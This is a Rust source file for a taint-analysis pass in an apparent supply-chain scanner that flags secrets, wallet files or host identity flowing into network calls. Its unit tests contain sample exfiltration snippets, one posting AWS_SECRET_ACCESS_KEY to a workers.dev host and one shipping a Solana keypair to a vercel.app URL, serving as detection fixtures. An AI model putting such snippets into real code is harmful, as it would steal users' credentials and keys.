//! A light, intra-procedural taint analysis: does a secret or identity source reach a network
//! sink? Variables bound from a source are tainted; taint spreads through `let`, assignment,
//! `push`/`extend`-style calls and loops; a sink call whose arguments mention a tainted value
//! is a flow. Functions are linked crate-wide by name: a function that contains a source taints
//! its callers' results, and a function that sends its parameter is itself a sink.

use crate::analyze::secret_env;
use crate::facts::{Flow, SinkKind};
use crate::indicators;
use proc_macro2::{TokenStream, TokenTree};
use std::collections::{HashMap, HashSet};

const PARAM: &str = "parameter #";
use syn::spanned::Spanned;
use syn::visit::{self, Visit};
use syn::{Expr, Pat};

type Source = (String, u32);

/// Crate-wide knowledge linking functions by name.
#[derive(Default, Debug)]
pub struct Links {
    pub source_fns: HashMap<String, Source>,
    /// Functions that send the parameters at these positions over the network.
    pub sink_fns: HashMap<String, Vec<usize>>,
}

fn line<T: Spanned>(t: &T) -> u32 {
    t.span().start().line as u32
}

fn last_seg(p: &syn::Path) -> String {
    p.segments.last().map(|s| s.ident.to_string()).unwrap_or_default()
}

const NETTY: &[&str] = &["client", "reqwest", "ureq", "agent", "http", "request", "socket", "stream", "tcp", "udp", "conn", "curl", "easy", "bot", "webhook", "url", "api", "endpoint"];


/// Every function body in a file, with its name and parameter names.
pub fn functions(file: &syn::File) -> Vec<(String, Vec<String>, &syn::Block)> {
    struct Collect<'a> {
        out: Vec<(String, Vec<String>, &'a syn::Block)>,
        test: usize,
    }
    fn params(sig: &syn::Signature) -> Vec<String> {
        sig.inputs
            .iter()
            .filter_map(|i| match i {
                syn::FnArg::Typed(t) => pat_idents(&t.pat).into_iter().next(),
                syn::FnArg::Receiver(_) => None,
            })
            .collect()
    }
    fn is_test(attrs: &[syn::Attribute]) -> bool {
        attrs.iter().any(|a| {
            a.path().is_ident("test")
                || (a.path().is_ident("cfg") && {
                    let t = quote::ToTokens::to_token_stream(&a.meta).to_string();
                    t.contains("test") && !t.contains("not")
                })
        })
    }
    impl<'a> Visit<'a> for Collect<'a> {
        fn visit_item_mod(&mut self, m: &'a syn::ItemMod) {
            let t = is_test(&m.attrs);
            self.test += t as usize;
            visit::visit_item_mod(self, m);
            self.test -= t as usize;
        }
        fn visit_item_fn(&mut self, f: &'a syn::ItemFn) {
            if self.test == 0 && !is_test(&f.attrs) {
                self.out.push((f.sig.ident.to_string(), params(&f.sig), &f.block));
            }
            visit::visit_item_fn(self, f);
        }
        fn visit_impl_item_fn(&mut self, f: &'a syn::ImplItemFn) {
            if self.test == 0 && !is_test(&f.attrs) {
                self.out.push((f.sig.ident.to_string(), params(&f.sig), &f.block));
            }
            visit::visit_impl_item_fn(self, f);
        }
    }
    let mut c = Collect { out: Vec::new(), test: 0 };
    c.visit_file(file);
    c.out
}

fn pat_idents(p: &Pat) -> Vec<String> {
    let mut out = Vec::new();
    fn go(p: &Pat, out: &mut Vec<String>) {
        match p {
            Pat::Ident(i) => out.push(i.ident.to_string()),
            Pat::Type(t) => go(&t.pat, out),
            Pat::Reference(r) => go(&r.pat, out),
            Pat::Tuple(t) => t.elems.iter().for_each(|p| go(p, out)),
            Pat::TupleStruct(t) => t.elems.iter().for_each(|p| go(p, out)),
            Pat::Struct(s) => s.fields.iter().for_each(|f| go(&f.pat, out)),
            Pat::Slice(s) => s.elems.iter().for_each(|p| go(p, out)),
            _ => {}
        }
    }
    go(p, &mut out);
    out
}

/// Taint state for one function body.
struct Taint<'l> {
    links: &'l Links,
    func: String,
    tainted: HashMap<String, Source>,
    flows: Vec<Flow>,
    /// The function calls one of the crate's source functions or has a direct source.
    own_source: Option<Source>,
    /// Variables holding a connection or client (`let s = TcpStream::connect(..)`).
    net_vars: HashSet<String>,
}

impl<'l> Taint<'l> {
    fn new(links: &'l Links, func: String, tainted: HashMap<String, Source>) -> Taint<'l> {
        Taint { links, func, tainted, flows: Vec::new(), own_source: None, net_vars: HashSet::new() }
    }

    /// A receiver that is a network client or connection.
    fn netty(&self, e: &Expr) -> bool {
        let t = quote::ToTokens::to_token_stream(e).to_string();
        let l = t.to_ascii_lowercase();
        NETTY.iter().any(|n| l.contains(n)) || t.split(|c: char| !c.is_alphanumeric() && c != '_').any(|w| self.net_vars.contains(w))
    }

    /// Remember variables bound to connections and clients.
    fn note_net_binding(&mut self, pat: &Pat, init: &Expr) {
        struct Names(bool);
        impl<'ast> Visit<'ast> for Names {
            fn visit_ident(&mut self, i: &'ast proc_macro2::Ident) {
                if !self.0 {
                    let s = i.to_string();
                    self.0 = matches!(s.as_str(), "TcpStream" | "UdpSocket" | "Client" | "Agent" | "connect" | "reqwest" | "ureq" | "Easy");
                }
            }
        }
        let mut n = Names(false);
        n.visit_expr(init);
        if n.0 {
            for id in pat_idents(pat) {
                self.net_vars.insert(id);
            }
        }
    }

    fn bind_source(&mut self, pat: &Pat, init: &Expr) {
        self.note_net_binding(pat, init);
        if let Some(src) = self.source_of(init) {
            self.own_source.get_or_insert(src.clone());
            for id in pat_idents(pat) {
                self.tainted.entry(id).or_insert(src.clone());
            }
        }
    }

    /// The source an expression carries, if any.
    fn source_of(&self, e: &Expr) -> Option<Source> {
        let mut f = FindSource { t: self, found: None, depth: 0 };
        f.visit_expr(e);
        f.found
    }

    fn add_flow(&mut self, src: Source, sink: String, kind: SinkKind, at: u32) {
        let flow = Flow { source: src.0, source_line: src.1, sink, sink_kind: kind, line: at, func: self.func.clone() };
        if !self.flows.contains(&flow) && self.flows.len() < 100 {
            self.flows.push(flow);
        }
    }

    fn taint_target(&mut self, target: &Expr, src: Source) {
        let mut e = target;
        loop {
            match e {
                Expr::Path(p) => {
                    if let Some(i) = p.path.get_ident() {
                        self.tainted.entry(i.to_string()).or_insert(src);
                    }
                    return;
                }
                Expr::Field(f) => e = &f.base,
                Expr::Index(i) => e = &i.expr,
                Expr::Unary(u) => e = &u.expr,
                Expr::Reference(r) => e = &r.expr,
                Expr::Paren(p) => e = &p.expr,
                Expr::MethodCall(m) => e = &m.receiver,
                _ => return,
            }
        }
    }
}

struct FindSource<'a, 'l> {
    t: &'a Taint<'l>,
    found: Option<Source>,
    depth: usize,
}

impl FindSource<'_, '_> {
    fn tokens(&mut self, ts: &TokenStream) {
        let mut stack = vec![ts.clone().into_iter()];
        while let Some(top) = stack.last_mut() {
            let Some(tt) = top.next() else {
                stack.pop();
                continue;
            };
            match tt {
                TokenTree::Group(g) if stack.len() < 64 => stack.push(g.stream().into_iter()),
                TokenTree::Ident(i) => {
                    if let Some(s) = self.t.tainted.get(&i.to_string()) {
                        self.found.get_or_insert_with(|| s.clone());
                    }
                }
                TokenTree::Literal(l) => {
                    let s = l.to_string();
                    if let Some(what) = indicators::secret_path(s.trim_matches('"')) {
                        self.found.get_or_insert((format!("the path of {what}"), l.span().start().line as u32));
                    }
                }
                _ => {}
            }
        }
    }
}

impl FindSource<'_, '_> {
    /// A secret was found (host identity alone keeps the search going for a secret).
    fn strong(&self) -> bool {
        self.found.as_ref().is_some_and(|(s, _)| !s.contains("host identity"))
    }
}

impl<'ast> Visit<'ast> for FindSource<'_, '_> {
    fn visit_expr(&mut self, e: &'ast Expr) {
        if self.strong() || self.depth > 200 {
            return;
        }
        self.depth += 1;
        match e {
            Expr::Path(p) => {
                if let Some(i) = p.path.get_ident() {
                    if let Some(s) = self.t.tainted.get(&i.to_string()) {
                        self.found = Some(s.clone());
                    }
                }
            }
            Expr::Call(c) => {
                if let Expr::Path(p) = &*c.func {
                    let full = crate::fold::path_string(&p.path);
                    let last = last_seg(&p.path);
                    let arg0 = c.args.first().and_then(|a| match a {
                        Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(s), .. }) => Some(s.value()),
                        _ => None,
                    });
                    let at = line(c);
                    if (last == "var" || last == "var_os") && (full.contains("env") || full == last) {
                        if let Some(v) = &arg0 {
                            let u = v.to_ascii_uppercase();
                            if secret_env(&u) {
                                self.found = Some((format!("the secret environment variable `{v}`"), at));
                            } else if matches!(u.as_str(), "USER" | "USERNAME" | "HOSTNAME" | "COMPUTERNAME" | "LOGNAME") {
                                self.found = Some((format!("the host identity (`{v}`)"), at));
                            }
                        }
                    } else if (last == "vars" || last == "vars_os") && full.contains("env") {
                        self.found = Some(("the whole environment (`env::vars()`)".into(), at));
                    } else if full.starts_with("whoami") || full.contains("hostname::get") || last == "gethostname" {
                        self.found = Some(("the host identity".into(), at));
                    } else if full.ends_with("Regex::new") || full.ends_with("RegexBuilder::new") {
                        if let Some(what) = arg0.as_deref().and_then(indicators::key_pattern) {
                            self.found = Some((format!("a regex hunting {what}"), at));
                        }
                    } else if let Some(s) = self.t.links.source_fns.get(&last) {
                        if last != self.t.func {
                            self.found = Some((s.0.clone(), at));
                        }
                    }
                }
            }
            Expr::MethodCall(m) => {
                let name = m.method.to_string();
                if let Some(s) = self.t.links.source_fns.get(&name) {
                    if name != self.t.func && m.receiver_is_self_or_path() {
                        self.found = Some((s.0.clone(), line(m)));
                    }
                }
            }
            Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(s), .. }) => {
                if let Some(what) = indicators::secret_path(&s.value()) {
                    self.found = Some((format!("the path of {what}"), line(s)));
                }
            }
            Expr::Macro(m) => {
                // `format!("{}", whoami::hostname())`: look at the arguments as expressions.
                use syn::parse::Parser;
                let parser = syn::punctuated::Punctuated::<Expr, syn::Token![,]>::parse_terminated;
                match parser.parse2(m.mac.tokens.clone()) {
                    Ok(args) => {
                        for a in &args {
                            self.visit_expr(a);
                        }
                    }
                    Err(_) => self.tokens(&m.mac.tokens),
                }
            }
            Expr::Closure(_) => {
                // A closure's body is visited as part of the expression.
            }
            _ => {}
        }
        if !self.strong() {
            visit::visit_expr(self, e);
        }
        self.depth -= 1;
    }
}

trait ReceiverExt {
    fn receiver_is_self_or_path(&self) -> bool;
}
impl ReceiverExt for syn::ExprMethodCall {
    fn receiver_is_self_or_path(&self) -> bool {
        matches!(&*self.receiver, Expr::Path(_) | Expr::Field(_))
    }
}

const TAINT_METHODS: &[&str] = &["push", "push_str", "extend", "extend_from_slice", "insert", "append", "push_back", "write_all", "write_str", "write_fmt"];

impl<'ast> Visit<'ast> for Taint<'_> {
    fn visit_local(&mut self, l: &'ast syn::Local) {
        visit::visit_local(self, l);
        if let Some(init) = &l.init {
            self.bind_source(&l.pat, &init.expr);
        }
    }

    fn visit_expr_let(&mut self, l: &'ast syn::ExprLet) {
        visit::visit_expr_let(self, l);
        self.bind_source(&l.pat, &l.expr);
    }

    fn visit_expr_for_loop(&mut self, f: &'ast syn::ExprForLoop) {
        let mut arr = &*f.expr;
        while let Expr::Reference(r) = arr {
            arr = &r.expr;
        }
        if let Expr::Array(a) = arr {
            let names: Vec<String> = a.elems.iter().filter_map(|e| match e {
                Expr::Lit(syn::ExprLit { lit: syn::Lit::Str(s), .. }) => Some(s.value()),
                _ => None,
            }).collect();
            if let Some(n) = names.iter().find(|n| secret_env(n)) {
                for id in pat_idents(&f.pat) {
                    self.tainted.entry(id).or_insert((format!("secret environment variables (`{n}`, ...)"), line(a)));
                }
            }
        }
        if let Some(src) = self.source_of(&f.expr) {
            for id in pat_idents(&f.pat) {
                self.tainted.entry(id).or_insert(src.clone());
            }
        }
        visit::visit_expr_for_loop(self, f);
    }

    fn visit_expr_assign(&mut self, a: &'ast syn::ExprAssign) {
        visit::visit_expr_assign(self, a);
        if let Some(src) = self.source_of(&a.right) {
            self.taint_target(&a.left, src);
        }
    }

    fn visit_expr_binary(&mut self, b: &'ast syn::ExprBinary) {
        visit::visit_expr_binary(self, b);
        if matches!(b.op, syn::BinOp::AddAssign(_)) {
            if let Some(src) = self.source_of(&b.right) {
                self.taint_target(&b.left, src);
            }
        }
    }

    fn visit_macro(&mut self, mac: &'ast syn::Macro) {
        // `write!(buf, "{}", secret)` taints `buf`; other macros: visit their expressions.
        use syn::parse::Parser;
        let parser = syn::punctuated::Punctuated::<Expr, syn::Token![,]>::parse_terminated;
        if let Ok(args) = parser.parse2(mac.tokens.clone()) {
            let args: Vec<Expr> = args.into_iter().collect();
            let name = last_seg(&mac.path);
            if (name == "write" || name == "writeln") && args.len() > 1 {
                if let Some(src) = args[1..].iter().find_map(|a| self.source_of(a)) {
                    if self.netty(&args[0]) {
                        self.add_flow(src, format!("`{name}!` to a connection"), SinkKind::Payload, line(mac));
                    } else {
                        self.taint_target(&args[0], src);
                    }
                }
            }
            for a in &args {
                self.visit_expr(a);
            }
        }
    }

    fn visit_expr_closure(&mut self, c: &'ast syn::ExprClosure) {
        visit::visit_expr_closure(self, c);
    }

    fn visit_expr_method_call(&mut self, m: &'ast syn::ExprMethodCall) {
        // Closures over a tainted iterator: taint their parameters first.
        if let Some(src) = self.source_of(&m.receiver) {
            for a in &m.args {
                if let Expr::Closure(c) = a {
                    for p in &c.inputs {
                        for id in pat_idents(p) {
                            self.tainted.entry(id).or_insert(src.clone());
                        }
                    }
                }
            }
        }
        visit::visit_expr_method_call(self, m);
        let name = m.method.to_string();
        let at = line(&m.method);
        let arg_src = m.args.iter().find_map(|a| self.source_of(a));
        if TAINT_METHODS.contains(&name.as_str()) {
            if let Some(src) = arg_src.clone() {
                self.taint_target(&m.receiver, src);
            }
        }
        let Some(src) = arg_src else { return };
        let kind = match name.as_str() {
            "body" | "json" | "form" | "query" | "send_string" | "send_json" | "send_form" | "send_bytes" | "multipart" | "text" | "send_body" | "post_fields_copy" | "send_to" => Some(SinkKind::Payload),
            "post" | "put" | "patch" | "request" | "delete" | "head" | "connect" => Some(SinkKind::Url),
            "get" | "send" | "write_all" | "write" | "call" | "write_fmt" if self.netty(&m.receiver) => Some(if name == "get" { SinkKind::Url } else { SinkKind::Payload }),
            "header" | "headers" | "bearer_auth" | "basic_auth" | "set" | "auth" | "token" if self.netty(&m.receiver) || matches!(name.as_str(), "bearer_auth" | "basic_auth") => Some(SinkKind::Header),
            "lookup_ip" | "lookup_host" | "txt_lookup" | "ipv4_lookup" => Some(SinkKind::Url),
            _ => None,
        };
        let kind = kind.or_else(|| {
            let pos = self.links.sink_fns.get(&name)?;
            (name != self.func && m.args.iter().enumerate().any(|(i, a)| pos.contains(&i) && self.source_of(a).is_some())).then_some(SinkKind::Payload)
        });
        if let Some(kind) = kind {
            self.add_flow(src, format!("`.{name}(..)`"), kind, at);
        }
        if name == "to_socket_addrs" {
            if let Some(src) = self.source_of(&m.receiver) {
                self.add_flow(src, "a DNS lookup (`.to_socket_addrs()`)".into(), SinkKind::Url, at);
            }
        }
    }

    fn visit_expr_call(&mut self, c: &'ast syn::ExprCall) {
        visit::visit_expr_call(self, c);
        let Expr::Path(p) = &*c.func else { return };
        let full = crate::fold::path_string(&p.path);
        let last = last_seg(&p.path);
        let Some(src) = c.args.iter().find_map(|a| self.source_of(a)) else { return };
        let first = full.split("::").next().unwrap_or("");
        let to_sink_fn = self.links.sink_fns.get(&last).is_some_and(|pos| c.args.iter().enumerate().any(|(i, a)| pos.contains(&i) && self.source_of(a).is_some()));
        let kind = if matches!(first, "reqwest" | "ureq" | "minreq" | "attohttpc" | "isahc" | "surf") && matches!(last.as_str(), "get" | "post" | "put" | "request") {
            Some(SinkKind::Url)
        } else if full.ends_with("TcpStream::connect") || full.ends_with("UdpSocket::bind") || last == "lookup_host" || last == "getaddrinfo" {
            Some(SinkKind::Url)
        } else if to_sink_fn && last != self.func {
            Some(SinkKind::Payload)
        } else {
            None
        };
        if let Some(kind) = kind {
            self.add_flow(src, format!("`{full}(..)`"), kind, line(c));
        }
    }
}

/// Compute links (source and sink functions) over a set of files.
pub fn link(files: &[&syn::File]) -> Links {
    let mut links = Links::default();
    for _round in 0..3 {
        let mut changed = false;
        for file in files {
            for (name, params, body) in functions(file) {
                // Direct sources.
                if !links.source_fns.contains_key(&name) {
                    let t = Taint::new(&links, name.clone(), HashMap::new());
                    let mut find = FindSource { t: &t, found: None, depth: 0 };
                    find.visit_block(body);
                    if let Some(src) = find.found {
                        links.source_fns.insert(name.clone(), src);
                        changed = true;
                    }
                }
                // Parameter sinks: which parameter positions reach a payload or URL sink.
                if !links.sink_fns.contains_key(&name) && !params.is_empty() {
                    let mut tainted = HashMap::new();
                    for (i, p) in params.iter().enumerate() {
                        tainted.insert(p.clone(), (format!("{PARAM}{i}"), 0));
                    }
                    let mut t = Taint::new(&links, name.clone(), tainted);
                    t.visit_block(body);
                    let mut positions: Vec<usize> = t
                        .flows
                        .iter()
                        .filter(|f| f.sink_kind != SinkKind::Header)
                        .filter_map(|f| f.source.strip_prefix(PARAM)?.parse().ok())
                        .collect();
                    positions.sort();
                    positions.dedup();
                    if !positions.is_empty() {
                        links.sink_fns.insert(name.clone(), positions);
                        changed = true;
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }
    // Names too common to link by name alone.
    for common in ["new", "default", "from", "into", "get", "run", "main", "build", "read", "load", "open", "send", "call", "fmt", "clone", "drop"] {
        links.source_fns.remove(common);
        links.sink_fns.remove(common);
    }
    links
}

/// Flows in one file, given crate-wide links.
pub fn flows(file: &syn::File, links: &Links) -> Vec<Flow> {
    let mut out = Vec::new();
    for (name, _, body) in functions(file) {
        let mut t = Taint::new(links, name, HashMap::new());
        // Two passes so that taint added late in a loop body reaches earlier sinks.
        t.visit_block(body);
        t.visit_block(body);
        for f in t.flows {
            if !f.source.starts_with(PARAM) && !out.contains(&f) {
                out.push(f);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(src: &str) -> Vec<Flow> {
        let f: syn::File = syn::parse_str(src).unwrap();
        let links = link(&[&f]);
        flows(&f, &links)
    }

    #[test]
    fn env_secret_into_body_is_a_flow() {
        let fl = run(r#"fn f() { let k = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap(); let c = reqwest::blocking::Client::new(); c.post("https://x.workers.dev").body(k).send(); }"#);
        assert_eq!(fl.len(), 1);
        assert_eq!(fl[0].sink_kind, SinkKind::Payload);
    }

    #[test]
    fn flow_through_helper_functions() {
        let fl = run(r#"
            fn keys() -> String { std::fs::read_to_string(home().join(".config/solana/id.json")).unwrap() }
            fn ship(data: &str) { ureq::post("https://a.vercel.app/x").send_string(data); }
            pub fn init() { let k = keys(); ship(&k); }
        "#);
        assert!(fl.iter().any(|f| f.func == "init"), "{fl:?}");
    }

    #[test]
    fn token_in_header_is_not_payload() {
        let fl = run(r#"fn f() { let t = std::env::var("CARGO_REGISTRY_TOKEN").unwrap(); let client = reqwest::Client::new(); client.get("https://crates.io/api/v1/me").header("Authorization", t).send(); }"#);
        assert!(fl.iter().all(|f| f.sink_kind == SinkKind::Header), "{fl:?}");
    }

    #[test]
    fn unrelated_values_do_not_flow() {
        let fl = run(r#"fn f() { let _k = std::env::var("API_TOKEN"); let body = "hello"; reqwest::blocking::Client::new().post("https://example.com").body(body).send(); }"#);
        assert!(fl.is_empty(), "{fl:?}");
    }
}
